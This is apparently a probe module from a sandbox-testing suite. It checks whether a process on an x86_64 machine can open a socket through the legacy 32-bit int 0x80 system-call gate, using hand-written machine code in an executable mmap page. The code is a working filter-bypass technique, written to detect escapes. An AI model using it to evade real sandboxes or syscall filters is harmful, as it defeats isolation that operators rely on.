"""No app makes system calls by the gate of a smaller processor."""

CLASS = "kernel-surface"
BOUNDARY = "both"
NEEDS = ("ctypes",)


import ctypes
import os


def attack():
    if os.uname().machine != "x86_64":
        return "ABSENT: this processor has no such gate"
    if os.getenv("VAAS_CANARY"):
        child = os.fork()
        if child == 0:
            os._exit(42 if gate() >= 0 else 43)
        ended = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
        return "ESCAPED: a socket by the gate" if ended == 42 else "ABSENT: this kernel has no such gate"
    made = gate()
    return f"ESCAPED: descriptor {made}" if made >= 0 else ""


def gate():
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    place = libc.mmap(None, 4096, 7, 0x22, -1, 0)
    # push rbx; ebx=1 (AF_UNIX); ecx=1 (STREAM); edx=0; eax=359 (socket); int 0x80; pop rbx; ret
    code = bytes.fromhex("53 bb01000000 b901000000 31d2 b867010000 cd80 5b c3")
    ctypes.memmove(place, code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(place)()
